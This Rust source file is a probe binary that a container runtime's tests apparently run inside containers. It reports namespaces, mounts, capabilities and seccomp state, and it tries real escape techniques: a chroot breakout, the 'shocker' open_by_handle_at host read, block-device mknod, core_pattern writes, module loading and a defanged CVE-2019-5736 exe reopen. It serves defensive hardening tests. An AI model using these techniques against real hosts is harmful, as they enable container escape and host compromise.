//! The probe: a small, statically linked program that the graded tests place inside a container
//! to report, as JSON, what the container sees. A static binary needs nothing from the
//! container's filesystem, so it runs in any root filesystem the tests build.
//!
//! It uses the standard library only, so that the tests' build script can compile it with one
//! `rustc` call (see `tests/support/build.rs`).
//!
//! ```text
//! probe                        facts: pid, ppid, uid, hostname, cwd, mounts, cgroups, capabilities,
//!                              open descriptors
//! probe chroot-escape MARKER   try the classic chroot escape; report whether MARKER became visible
//! probe alloc MIB              allocate and touch MIB mebibytes, reporting progress
//! probe spawn N SECONDS        start N children that sleep SECONDS; report how many started
//! probe spin SECONDS           burn CPU for SECONDS of wall-clock time
//! probe try ATTACK [ARGS]      try one of the hardening chapter's attacks (see `attack`); report whether
//!                              it worked and the errno it met
//! probe as-nobody PROGRAM ...  become uid and gid 65534, then exec PROGRAM (a setuid test)
//! probe exe-watch MARKER GO DEV:INO  the CVE-2019-5736 attack (the oci chapter): see `exe_watch`
//! ```

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let words: Vec<&str> = args.iter().skip(1).map(String::as_str).collect();
    let result = match words.as_slice() {
        [] | ["facts"] => Ok(facts()),
        ["chroot-escape", marker] => chroot_escape(marker),
        ["alloc", mib] => number(mib).map(alloc),
        ["spawn", n, seconds] => number(n).and_then(|n| Ok(spawn(n, number(seconds)?))),
        ["spin", seconds] => number(seconds).map(spin),
        ["try", attack_words @ ..] => attack(attack_words),
        ["as-nobody", program, rest @ ..] => as_nobody(program, rest),
        ["serve", endpoints @ ..] if !endpoints.is_empty() => serve(endpoints),
        ["exe-watch", marker, go, identity] => Ok(exe_watch(marker, go, identity)),
        ["sleep", seconds] => number(seconds).map(|s| {
            std::thread::sleep(Duration::from_secs(s));
            "{}".to_string()
        }),
        _ => Err(format!(
            "usage: probe [facts | chroot-escape MARKER | alloc MIB | spawn N SECONDS | spin SECONDS | try ATTACK | \
             as-nobody PROGRAM ARGS | serve tcp/PORT|udp/PORT...]; got {words:?}"
        )),
    };
    match result {
        Ok(json) => println!("{json}"),
        Err(message) => {
            eprintln!("probe: {message}");
            std::process::exit(2);
        }
    }
}

/// The network chapter: answer one connection (tcp) or one datagram (udp) on each endpoint, on every
/// address, with `ENDPOINT from PEER`, so the client learns who the server saw; then report what
/// was served. Gives up on an endpoint after 30 s.
fn serve(endpoints: &[&str]) -> Result<String, String> {
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut servers = Vec::new();
    for endpoint in endpoints {
        let (protocol, port) =
            endpoint.split_once('/').ok_or(format!("`{endpoint}` is not PROTOCOL/PORT"))?;
        let port = number(port)?;
        let address = format!("0.0.0.0:{port}");
        let name = endpoint.to_string();
        let endpoint = endpoint.to_string();
        let server: Box<dyn FnOnce() -> Option<String> + Send> = match protocol {
            "tcp" => {
                let listener =
                    std::net::TcpListener::bind(&address).map_err(|e| format!("{endpoint}: {e}"))?;
                listener.set_nonblocking(true).map_err(|e| e.to_string())?;
                Box::new(move || {
                    loop {
                        match listener.accept() {
                            Ok((mut stream, peer)) => {
                                let _ = stream.set_nonblocking(false);
                                let _ = writeln!(stream, "{endpoint} from {peer}");
                                break Some(peer.to_string());
                            }
                            Err(_) if Instant::now() < deadline => {
                                std::thread::sleep(Duration::from_millis(10))
                            }
                            Err(_) => break None,
                        }
                    }
                })
            }
            "udp" => {
                let socket = std::net::UdpSocket::bind(&address).map_err(|e| format!("{endpoint}: {e}"))?;
                Box::new(move || {
                    let _ = socket.set_read_timeout(Some(deadline.saturating_duration_since(Instant::now())));
                    let mut buffer = [0u8; 512];
                    let (_, peer) = socket.recv_from(&mut buffer).ok()?;
                    let _ = socket.send_to(format!("{endpoint} from {peer}\n").as_bytes(), peer);
                    Some(peer.to_string())
                })
            }
            _ => return Err(format!("`{protocol}` is neither tcp nor udp")),
        };
        servers.push((name, std::thread::spawn(server)));
    }
    let served: Vec<String> = servers
        .into_iter()
        .map(|(endpoint, server)| {
            let peer = server.join().ok().flatten();
            format!(
                "{{\"endpoint\":{},\"peer\":{}}}",
                quote(&endpoint),
                peer.as_deref().map_or("null".into(), quote)
            )
        })
        .collect();
    Ok(format!("{{\"served\":[{}]}}", served.join(",")))
}

fn number(word: &str) -> Result<u64, String> {
    word.parse().map_err(|_| format!("`{word}` is not a number"))
}

/// A JSON string literal.
fn quote(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn quote_all<'a>(items: impl Iterator<Item = &'a str>) -> String {
    let quoted: Vec<String> = items.map(quote).collect();
    format!("[{}]", quoted.join(","))
}

fn read(path: &str) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

/// A field of /proc/self/status, such as `Uid` or `CapEff`.
fn status_field(name: &str) -> String {
    read("/proc/self/status")
        .lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(':').map(|v| v.trim().to_string()))
        .unwrap_or_default()
}

fn facts() -> String {
    let pid = std::process::id();
    let ppid = std::os::unix::process::parent_id();
    let uid = status_field("Uid").split_whitespace().next().unwrap_or("").to_string();
    let hostname = read("/proc/sys/kernel/hostname").trim().to_string();
    let cwd = std::env::current_dir().map(|d| d.display().to_string()).unwrap_or_default();
    // mountinfo: "ID PARENT MAJ:MIN ROOT MOUNTPOINT OPTIONS ... - FSTYPE SOURCE SUPEROPTIONS"
    let mounts: Vec<String> = read("/proc/self/mountinfo")
        .lines()
        .filter_map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let dash = fields.iter().position(|f| *f == "-")?;
            Some(format!(
                "{{\"target\":{},\"fstype\":{},\"options\":{},\"super\":{}}}",
                quote(fields.get(4)?),
                quote(fields.get(dash + 1)?),
                quote(fields.get(5)?),
                quote(fields.get(dash + 3).unwrap_or(&""))
            ))
        })
        .collect();
    let cgroup = read("/proc/self/cgroup");
    let pids: Vec<String> = std::fs::read_dir("/proc")
        .map(|dir| {
            dir.filter_map(|e| e.ok()?.file_name().into_string().ok())
                .filter(|name| name.bytes().all(|b| b.is_ascii_digit()))
                .collect()
        })
        .unwrap_or_default();
    let mut root: Vec<String> = std::fs::read_dir("/")
        .map(|dir| dir.filter_map(|e| e.ok()?.file_name().into_string().ok()).collect())
        .unwrap_or_default();
    root.sort();
    let fds = open_fds();
    format!(
        "{{\"pid\":{pid},\"ppid\":{ppid},\"uid\":{},\"hostname\":{},\"cwd\":{},\"cap_eff\":{},\
         \"root_entries\":{},\"proc_pids\":{},\"cgroup\":{},\"mounts\":[{}],\"fds\":[{}],{}}}",
        quote(&uid),
        quote(&hostname),
        quote(&cwd),
        quote(&status_field("CapEff")),
        quote_all(root.iter().map(String::as_str)),
        quote_all(pids.iter().map(String::as_str)),
        quote_all(cgroup.lines()),
        mounts.join(","),
        fds.join(","),
        privilege_facts()
    )
}

/// The hardening chapter's facts: the effective uid, the five capability sets, `no_new_privs` and the
/// seccomp mode, as /proc/self/status shows them.
fn privilege_facts() -> String {
    let euid = status_field("Uid").split_whitespace().nth(1).unwrap_or("").to_string();
    let fields = ["CapPrm", "CapInh", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"];
    let keys = ["cap_prm", "cap_inh", "cap_bnd", "cap_amb", "no_new_privs", "seccomp"];
    let mut out = format!("\"euid\":{}", quote(&euid));
    for (key, field) in keys.iter().zip(fields) {
        let _ = write!(out, ",\"{key}\":{}", quote(&status_field(field)));
    }
    out
}

/// The descriptors open in this process, each with what it points to: `{"fd":0,"target":"/dev/null"}`.
/// The directory descriptor that lists them is left out. It shows as `/proc/PID/fd` with the PID
/// that this /proc knows us by, which is not our own in a new PID namespace with the host's /proc.
fn open_fds() -> Vec<String> {
    let seen_as = std::fs::read_link("/proc/self").map(|p| p.display().to_string()).unwrap_or_default();
    let listing = format!("/proc/{seen_as}/fd");
    let mut fds: Vec<(u32, String)> = std::fs::read_dir("/proc/self/fd")
        .map(|dir| {
            dir.filter_map(|e| {
                let entry = e.ok()?;
                let fd = entry.file_name().to_str()?.parse().ok()?;
                let target = std::fs::read_link(entry.path()).ok()?.display().to_string();
                Some((fd, target))
            })
            .filter(|(_, target)| *target != listing && target != "/proc/self/fd")
            .collect()
        })
        .unwrap_or_default();
    fds.sort();
    fds.iter().map(|(fd, target)| format!("{{\"fd\":{fd},\"target\":{}}}", quote(target))).collect()
}

/// The classic escape from a chroot jail: chroot into a subdirectory without entering it, so the
/// working directory stays outside the new root; walk up with `..` as far as the kernel allows;
/// make that the root. Against a plain chroot this reaches the host's root. After pivot_root
/// and with the old root detached, the top is the container's own root, and nothing is gained.
fn chroot_escape(marker: &str) -> Result<String, String> {
    let jail = Path::new("/.probe-jail");
    std::fs::create_dir_all(jail).map_err(|e| format!("mkdir {}: {e}", jail.display()))?;
    std::env::set_current_dir("/").map_err(|e| format!("chdir /: {e}"))?;
    std::os::unix::fs::chroot(jail).map_err(|e| format!("chroot {}: {e}", jail.display()))?;
    for _ in 0..64 {
        std::env::set_current_dir("..").map_err(|e| format!("chdir ..: {e}"))?;
    }
    std::os::unix::fs::chroot(".").map_err(|e| format!("chroot .: {e}"))?;
    let saw_marker = Path::new(marker).exists();
    let _ = std::fs::remove_dir(jail);
    Ok(format!("{{\"escaped\":{saw_marker},\"marker\":{}}}", quote(marker)))
}

/// Allocate and touch `mib` MiB, one MiB at a time, saying how far it got (on stderr, so the
/// progress survives an OOM kill).
fn alloc(mib: u64) -> String {
    let mut blocks: Vec<Vec<u8>> = Vec::new();
    for i in 1..=mib {
        // Filling the block with a non-zero byte makes the kernel back every page with memory.
        blocks.push(vec![0xa5; 1 << 20]);
        if i % 8 == 0 {
            eprintln!("probe: allocated {i} MiB");
        }
    }
    let touched: u64 = blocks.iter().map(|b| u64::from(b[b.len() - 1])).sum();
    format!("{{\"allocated_mib\":{mib},\"check\":{touched}}}")
}

/// Start `n` children that each sleep `seconds`, and report how many the kernel allowed.
/// Deterministic, unlike a fork bomb: the answer is the number that started.
fn spawn(n: u64, seconds: u64) -> String {
    let me = std::env::current_exe().unwrap_or_else(|_| "/probe".into());
    let mut children = Vec::new();
    let mut first_error = String::new();
    for _ in 0..n {
        match std::process::Command::new(&me).args(["sleep", &seconds.to_string()]).spawn() {
            Ok(child) => children.push(child),
            Err(e) => {
                first_error = e.to_string();
                break;
            }
        }
    }
    let started = children.len();
    for child in &mut children {
        let _ = child.kill();
        let _ = child.wait();
    }
    let _ = std::io::stdout().flush();
    format!("{{\"asked\":{n},\"started\":{started},\"error\":{}}}", quote(&first_error))
}

fn spin(seconds: u64) -> String {
    let start = Instant::now();
    let mut count: u64 = 0;
    while start.elapsed() < Duration::from_secs(seconds) {
        count = count.wrapping_add(1);
        std::hint::black_box(count);
    }
    format!("{{\"spun_seconds\":{seconds}}}")
}

// The hardening chapter: attacks from inside. Each is tried for real; the JSON says whether it worked and,
// when it did not, the errno that stopped it (EPERM from seccomp or a capability check, EROFS
// from a read-only mount, EACCES from nodev...).

unsafe extern "C" {
    fn syscall(number: i64, ...) -> i64;
}

/// System call numbers, per architecture (the probe is built with `rustc` alone, without the libc
/// crate). The tests below check them against the libc crate's `SYS_*` constants for the
/// architecture that runs them, and the arm64 numbers against the kernel's generic table when its
/// header is installed (`cargo test -p minibox-probe`).
#[cfg(target_arch = "x86_64")]
mod nr {
    pub const MOUNT: i64 = 165;
    pub const UMOUNT2: i64 = 166;
    pub const INIT_MODULE: i64 = 175;
    pub const FINIT_MODULE: i64 = 313;
    pub const OPEN_BY_HANDLE_AT: i64 = 304;
    pub const CAPGET: i64 = 125;
    pub const CAPSET: i64 = 126;
    pub const MKNODAT: i64 = 259;
    pub const SETGROUPS: i64 = 116;
    pub const SETRESUID: i64 = 117;
    pub const SETRESGID: i64 = 119;
    pub const UNSHARE: i64 = 272;
    pub const KEYCTL: i64 = 250;
}

/// arm64 uses the kernel's generic table (`include/uapi/asm-generic/unistd.h`).
#[cfg_attr(not(target_arch = "aarch64"), allow(dead_code))]
mod nr_aarch64 {
    pub const MOUNT: i64 = 40;
    pub const UMOUNT2: i64 = 39;
    pub const INIT_MODULE: i64 = 105;
    pub const FINIT_MODULE: i64 = 273;
    pub const OPEN_BY_HANDLE_AT: i64 = 265;
    pub const CAPGET: i64 = 90;
    pub const CAPSET: i64 = 91;
    pub const MKNODAT: i64 = 33;
    pub const SETGROUPS: i64 = 159;
    pub const SETRESUID: i64 = 147;
    pub const SETRESGID: i64 = 149;
    pub const UNSHARE: i64 = 97;
    pub const KEYCTL: i64 = 219;
}
#[cfg(target_arch = "aarch64")]
use nr_aarch64 as nr;

#[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
compile_error!(
    "the probe knows the system call numbers of x86_64 and aarch64 only: add this architecture's to `nr`"
);

/// A finished system call: its result, or -errno.
fn checked(result: i64) -> Result<i64, i32> {
    if result < 0 { Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0)) } else { Ok(result) }
}

fn c_path(path: &str) -> std::ffi::CString {
    std::ffi::CString::new(path).unwrap_or_default()
}

/// The report of an attack: `worked`, the errno that stopped it (0 when it worked), and what it
/// saw.
fn outcome(name: &str, result: Result<String, i32>) -> String {
    let (worked, errno, detail) = match result {
        Ok(detail) => (true, 0, detail),
        Err(0) => (false, 0, "nothing there".to_string()),
        Err(errno) => (false, errno, std::io::Error::from_raw_os_error(errno).to_string()),
    };
    format!(
        "{{\"attack\":{},\"worked\":{worked},\"errno\":{errno},\"detail\":{}}}",
        quote(name),
        quote(&detail)
    )
}

fn attack(words: &[&str]) -> Result<String, String> {
    let result = match words {
        ["shocker"] => shocker(),
        ["write-back", path] => write_back(path),
        ["read", path] => read_some(path),
        ["create-in", dir] => create_in(dir),
        ["mknod-open", path, major, minor] => mknod_open(path, number(major)?, number(minor)?),
        ["open", path] => open_and_read(path),
        ["mknod-open-on-tmpfs", major, minor] => mknod_open_on_tmpfs(number(major)?, number(minor)?),
        ["module"] => load_module(),
        ["mount"] => mount_tmpfs(),
        ["raise", cap] => raise_capability(number(cap)?),
        ["unshare-user"] => {
            // SAFETY: unshare(2) takes a flag word only; no memory is passed.
            checked(unsafe { syscall(nr::UNSHARE, 0x1000_0000i64) }).map(|_| "a new user namespace".into())
        }
        ["keyctl"] => {
            // SAFETY: KEYCTL_GET_KEYRING_ID of the session keyring (-3), integers only.
            checked(unsafe { syscall(nr::KEYCTL, 0i64, -3i64, 0i64) }).map(|id| format!("keyring {id}"))
        }
        _ => return Err(format!("unknown attack {words:?}")),
    };
    Ok(outcome(&words.join(" "), result))
}

/// CVE-2014-3519 ("shocker"): `open_by_handle_at` opens a file by its inode number on the
/// filesystem of a descriptor given, without a path, so a chroot or a pivot_root does not
/// matter. Inode 2 is the root directory of ext2/3/4: a handle of type 1 (32-bit inode and
/// generation) for it opens the root of the host filesystem that holds the container's root.
fn shocker() -> Result<String, i32> {
    let root = std::fs::File::open("/").map_err(|e| e.raw_os_error().unwrap_or(0))?;
    // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[8] }
    #[repr(C)]
    struct FileHandle {
        bytes: u32,
        kind: i32,
        inode: u32,
        generation: u32,
    }
    let handle = FileHandle { bytes: 8, kind: 1, inode: 2, generation: 0 };
    use std::os::fd::{AsRawFd, FromRawFd};
    const O_DIRECTORY: i64 = 0o200000;
    // SAFETY: `handle` is a live repr(C) file_handle whose 8 bytes of handle follow its header,
    // as its `bytes` says; the kernel reads it during the call only.
    let fd = checked(unsafe {
        syscall(nr::OPEN_BY_HANDLE_AT, i64::from(root.as_raw_fd()), &handle as *const FileHandle, O_DIRECTORY)
    })?;
    // SAFETY: a descriptor the kernel has just given us and no one else owns.
    let dir = unsafe { std::fs::File::from_raw_fd(fd as i32) };
    let listing = std::fs::read_dir(format!("/proc/self/fd/{}", dir.as_raw_fd()))
        .map(|d| d.filter_map(|e| e.ok()?.file_name().into_string().ok()).collect::<Vec<_>>().join(" "))
        .unwrap_or_default();
    Ok(format!("opened inode 2 of the root's filesystem: {listing}"))
}

/// Open `path` for writing and write back what it holds: a test of whether the write is
/// allowed that changes nothing if it is (`/proc/sys/kernel/core_pattern` is the host's). A
/// file that cannot be read (`/proc/sysrq-trigger` is write-only) gets a write of no bytes,
/// which triggers nothing.
fn write_back(path: &str) -> Result<String, i32> {
    let errno = |e: std::io::Error| e.raw_os_error().unwrap_or(0);
    let content = std::fs::read(path).unwrap_or_default();
    let mut file = std::fs::OpenOptions::new().write(true).open(path).map_err(errno)?;
    file.write_all(&content).map_err(errno)?;
    Ok(format!("wrote {} bytes back", content.len()))
}

/// Read from `path` (a file, or a directory's entries); it "works" when something comes back.
fn read_some(path: &str) -> Result<String, i32> {
    let errno = |e: std::io::Error| e.raw_os_error().unwrap_or(0);
    if Path::new(path).is_dir() {
        let names: Vec<String> = std::fs::read_dir(path)
            .map_err(errno)?
            .filter_map(|e| e.ok()?.file_name().into_string().ok())
            .collect();
        return if names.is_empty() { Err(0) } else { Ok(names.join(" ")) };
    }
    let mut buffer = vec![0u8; 256];
    let n =
        std::io::Read::read(&mut std::fs::File::open(path).map_err(errno)?, &mut buffer).map_err(errno)?;
    if n == 0 { Err(0) } else { Ok(String::from_utf8_lossy(&buffer[..n]).into_owned()) }
}

/// Create a file in `dir` (and remove it again).
fn create_in(dir: &str) -> Result<String, i32> {
    let path = Path::new(dir).join(".probe-was-here");
    std::fs::write(&path, "x").map_err(|e| e.raw_os_error().unwrap_or(0))?;
    let _ = std::fs::remove_file(&path);
    Ok(format!("created {}", path.display()))
}

/// Make a block device node and open it: with the host's disk numbers, the host's disk.
fn mknod_open(path: &str, major: u64, minor: u64) -> Result<String, i32> {
    const S_IFBLK: i64 = 0o060000;
    const AT_FDCWD: i64 = -100;
    let dev = ((major & 0xfff) << 8) | (minor & 0xff) | ((minor & !0xff) << 12) | ((major & !0xfff) << 32);
    let name = c_path(path);
    // SAFETY: `name` is a NUL-terminated string that outlives the call; the rest are integers.
    checked(unsafe { syscall(nr::MKNODAT, AT_FDCWD, name.as_ptr(), S_IFBLK | 0o600, dev as i64) })?;
    let opened = open_and_read(path);
    let _ = std::fs::remove_file(path);
    opened
}

/// Mount a fresh tmpfs (allowed to hold devices) on /tmp, make a block device node there and
/// open it: what is left when mounts are allowed is the cgroup's devices allowlist.
fn mknod_open_on_tmpfs(major: u64, minor: u64) -> Result<String, i32> {
    let (source, target, kind) = (c_path("probe"), c_path("/tmp"), c_path("tmpfs"));
    // SAFETY: three NUL-terminated strings that outlive the call, and no data (a null pointer).
    checked(unsafe { syscall(nr::MOUNT, source.as_ptr(), target.as_ptr(), kind.as_ptr(), 0i64, 0i64) })?;
    let opened = mknod_open("/tmp/disk", major, minor);
    // SAFETY: `target` is a NUL-terminated string that outlives the call (2 is MNT_DETACH).
    let _ = unsafe { syscall(nr::UMOUNT2, target.as_ptr(), 2i64) };
    opened
}

/// Open `path` and read a byte from it.
fn open_and_read(path: &str) -> Result<String, i32> {
    let errno = |e: std::io::Error| e.raw_os_error().unwrap_or(0);
    let mut file = std::fs::File::open(path).map_err(errno)?;
    let mut byte = [0u8; 1];
    let n = std::io::Read::read(&mut file, &mut byte).map_err(errno)?;
    Ok(format!("opened {path} and read {n} byte(s)"))
}

/// `init_module` with an empty image, then `finit_module` on a bad descriptor: either reaching
/// the kernel's argument checks (EINVAL, EFAULT, EBADF, ENOEXEC) means the door is open; a
/// refusal is EPERM.
fn load_module() -> Result<String, i32> {
    let empty = c_path("");
    // SAFETY: an image of length 0 (nothing is read from it) and an empty NUL-terminated string
    // for the parameters, which outlives the call.
    let first = checked(unsafe { syscall(nr::INIT_MODULE, empty.as_ptr(), 0i64, empty.as_ptr()) });
    // SAFETY: descriptor -1, which the kernel refuses, and the same empty parameter string.
    let second = checked(unsafe { syscall(nr::FINIT_MODULE, -1i64, empty.as_ptr(), 0i64) });
    const EPERM: i32 = 1;
    if first == Err(EPERM) && second == Err(EPERM) {
        return Err(EPERM);
    }
    Ok(format!("the kernel looked at the module: init_module {first:?}, finit_module {second:?}"))
}

/// Mount a tmpfs on /tmp (and unmount it).
fn mount_tmpfs() -> Result<String, i32> {
    let (source, target, kind) = (c_path("probe"), c_path("/tmp"), c_path("tmpfs"));
    // SAFETY: three NUL-terminated strings that outlive the call, and no data (a null pointer).
    checked(unsafe { syscall(nr::MOUNT, source.as_ptr(), target.as_ptr(), kind.as_ptr(), 0i64, 0i64) })?;
    // SAFETY: `target` is a NUL-terminated string that outlives the call (2 is MNT_DETACH).
    let _ = unsafe { syscall(nr::UMOUNT2, target.as_ptr(), 2i64) };
    Ok("mounted a tmpfs on /tmp".into())
}

/// Put capability `cap` into the effective and permitted sets with `capset`.
fn raise_capability(cap: u64) -> Result<String, i32> {
    #[repr(C)]
    struct Header {
        version: u32,
        pid: i32,
    }
    #[repr(C)]
    #[derive(Clone, Copy, Default)]
    struct Data {
        effective: u32,
        permitted: u32,
        inheritable: u32,
    }
    let mut header = Header { version: 0x2008_0522, pid: 0 };
    let mut data = [Data::default(); 2];
    // SAFETY: `header` and `data` are live repr(C) structs in the kernel's layout; version 3
    // writes two entries, and `data` has two.
    checked(unsafe { syscall(nr::CAPGET, &mut header as *mut Header, data.as_mut_ptr()) })?;
    let (half, bit) = ((cap / 32) as usize, 1u32 << (cap % 32));
    data[half].effective |= bit;
    data[half].permitted |= bit;
    // SAFETY: as for capget; capset only reads them.
    checked(unsafe { syscall(nr::CAPSET, &mut header as *mut Header, data.as_ptr()) })?;
    Ok(format!("capability {cap} is effective"))
}

/// Become uid and gid 65534 (nobody), then exec `program`: a setuid-root program then shows
/// whether it gained root (`euid` 0) or, under `no_new_privs`, nothing.
fn as_nobody(program: &str, args: &[&str]) -> Result<String, String> {
    let fail = |what: &str| format!("{what}: {}", std::io::Error::last_os_error());
    // SAFETY: setgroups with a size of 0 reads nothing from its null list; setresgid and
    // setresuid take integers only.
    unsafe {
        if syscall(nr::SETGROUPS, 0i64, std::ptr::null::<u32>()) != 0 {
            return Err(fail("setgroups"));
        }
        if syscall(nr::SETRESGID, 65534i64, 65534i64, 65534i64) != 0 {
            return Err(fail("setresgid"));
        }
        if syscall(nr::SETRESUID, 65534i64, 65534i64, 65534i64) != 0 {
            return Err(fail("setresuid"));
        }
    }
    use std::os::unix::process::CommandExt;
    let error = std::process::Command::new(program).args(args).exec();
    Err(format!("exec {program}: {error}"))
}

// The oci chapter: CVE-2019-5736 from inside a container, through a runtime's process.

/// Watch this PID namespace for a process whose command line holds `marker` (a runtime that
/// joins the container: `minibox exec ID`, or `create`'s process parked at the fifo), open its
/// `/proc/PID/exe` with `O_PATH` the moment it appears (and while it is still the runtime's
/// binary, whose device and inode numbers are `identity`, `DEV:INO`), then wait until the file `go` exists
/// (the runtime has ended) and reopen that handle for writing through `/proc/self/fd/N`. Nothing
/// is ever written: the report says whether the open and the reopen worked, and their errnos
/// (printed at once; the probe then stays a minute, to be killed with its container).
fn exe_watch(marker: &str, go: &str, identity: &str) -> String {
    use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
    const O_PATH: i32 = 0o10000000;
    let me = std::process::id().to_string();
    let deadline = Instant::now() + Duration::from_secs(30);
    // An open that finds another program (the process has exec'd its command) counts as gone.
    let open = |pid: &str| {
        let path = format!("/proc/{pid}/exe");
        let file = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(O_PATH)
            .open(path)
            .map_err(|e| e.raw_os_error().unwrap_or(0))?;
        let meta = file.metadata().map_err(|e| e.raw_os_error().unwrap_or(0))?;
        if format!("{}:{}", meta.dev(), meta.ino()) == identity { Ok(file) } else { Err(2) }
    };
    let mut seen: Option<(String, Result<std::fs::File, i32>)> = None;
    // A refusal may pass (a runtime process that still holds more capabilities than this one
    // drops them): the same process is tried again for two seconds, or until it is gone.
    let mut refused: Option<(String, i32, Instant)> = None;
    while seen.is_none() && Instant::now() < deadline {
        if let Some((pid, errno, since)) = &refused {
            match open(pid) {
                Ok(file) => seen = Some((pid.clone(), Ok(file))),
                Err(2 | 3) => seen = Some((pid.clone(), Err(*errno))),
                Err(e) if since.elapsed() > Duration::from_secs(2) => seen = Some((pid.clone(), Err(e))),
                Err(_) => {}
            }
            continue;
        }
        let Ok(entries) = std::fs::read_dir("/proc") else { break };
        for name in entries.flatten().map(|e| e.file_name().to_string_lossy().into_owned()) {
            if !name.bytes().all(|b| b.is_ascii_digit()) || name == me || name == "1" {
                continue;
            }
            let cmdline = std::fs::read(format!("/proc/{name}/cmdline")).unwrap_or_default();
            if !String::from_utf8_lossy(&cmdline).split('\0').any(|word| word == marker) {
                continue;
            }
            match open(&name) {
                Ok(file) => seen = Some((name, Ok(file))),
                // Gone already (it exec'd or ended): look again.
                Err(2 | 3) => continue,
                Err(errno) => refused = Some((name, errno, Instant::now())),
            }
            break;
        }
    }
    let Some((pid, opened)) = seen else { return "{\"seen\":false}".to_string() };
    let (open_errno, reopen_errno) = match opened {
        Err(errno) => (errno, 0),
        Ok(file) => {
            while !Path::new(go).exists() && Instant::now() < deadline + Duration::from_secs(30) {
                std::thread::sleep(Duration::from_millis(10));
            }
            use std::os::fd::AsRawFd;
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            // write(true) alone: no O_CREAT, no O_TRUNC; the file is closed at once, unwritten.
            match std::fs::OpenOptions::new().write(true).open(&path) {
                Ok(_) => (0, 0),
                Err(e) => (0, e.raw_os_error().unwrap_or(-1)),
            }
        }
    };
    let report = format!(
        "{{\"seen\":true,\"pid\":{pid},\"open_errno\":{open_errno},\"reopened_for_writing\":{},\"reopen_errno\":{reopen_errno}}}",
        open_errno == 0 && reopen_errno == 0
    );
    // Reported, the probe stays: as the container's first process, its end would kill every
    // process of its PID namespace, the runtime's half-done work included.
    println!("{report}");
    let _ = std::io::stdout().flush();
    std::thread::sleep(Duration::from_secs(60));
    report
}

#[cfg(test)]
mod tests {
    /// Each call the probe makes, by the name libc and the kernel give it.
    macro_rules! calls {
        ($table:ident) => {
            [
                ("mount", $table::MOUNT),
                ("umount2", $table::UMOUNT2),
                ("init_module", $table::INIT_MODULE),
                ("finit_module", $table::FINIT_MODULE),
                ("open_by_handle_at", $table::OPEN_BY_HANDLE_AT),
                ("capget", $table::CAPGET),
                ("capset", $table::CAPSET),
                ("mknodat", $table::MKNODAT),
                ("setgroups", $table::SETGROUPS),
                ("setresuid", $table::SETRESUID),
                ("setresgid", $table::SETRESGID),
                ("unshare", $table::UNSHARE),
                ("keyctl", $table::KEYCTL),
            ]
        };
    }

    #[test]
    fn numbers_are_libcs_for_this_architecture() {
        use super::nr;
        let libc = [
            libc::SYS_mount,
            libc::SYS_umount2,
            libc::SYS_init_module,
            libc::SYS_finit_module,
            libc::SYS_open_by_handle_at,
            libc::SYS_capget,
            libc::SYS_capset,
            libc::SYS_mknodat,
            libc::SYS_setgroups,
            libc::SYS_setresuid,
            libc::SYS_setresgid,
            libc::SYS_unshare,
            libc::SYS_keyctl,
        ];
        for ((name, ours), theirs) in calls!(nr).into_iter().zip(libc) {
            assert_eq!(ours, theirs, "{name}: the probe's number against libc::SYS_{name}");
        }
    }

    #[test]
    fn arm64_numbers_are_the_kernels_generic_table() {
        // Debian and Ubuntu install it with linux-libc-dev; without it there is nothing to compare.
        let Ok(header) = std::fs::read_to_string("/usr/include/asm-generic/unistd.h") else { return };
        use super::nr_aarch64 as arm64;
        for (name, ours) in calls!(arm64) {
            let define = format!("#define __NR_{name} ");
            let theirs =
                header.lines().find_map(|l| l.strip_prefix(define.as_str())?.trim().parse::<i64>().ok());
            assert_eq!(
                Some(ours),
                theirs,
                "{name}: the probe's arm64 number against __NR_{name} in asm-generic/unistd.h"
            );
        }
    }
}
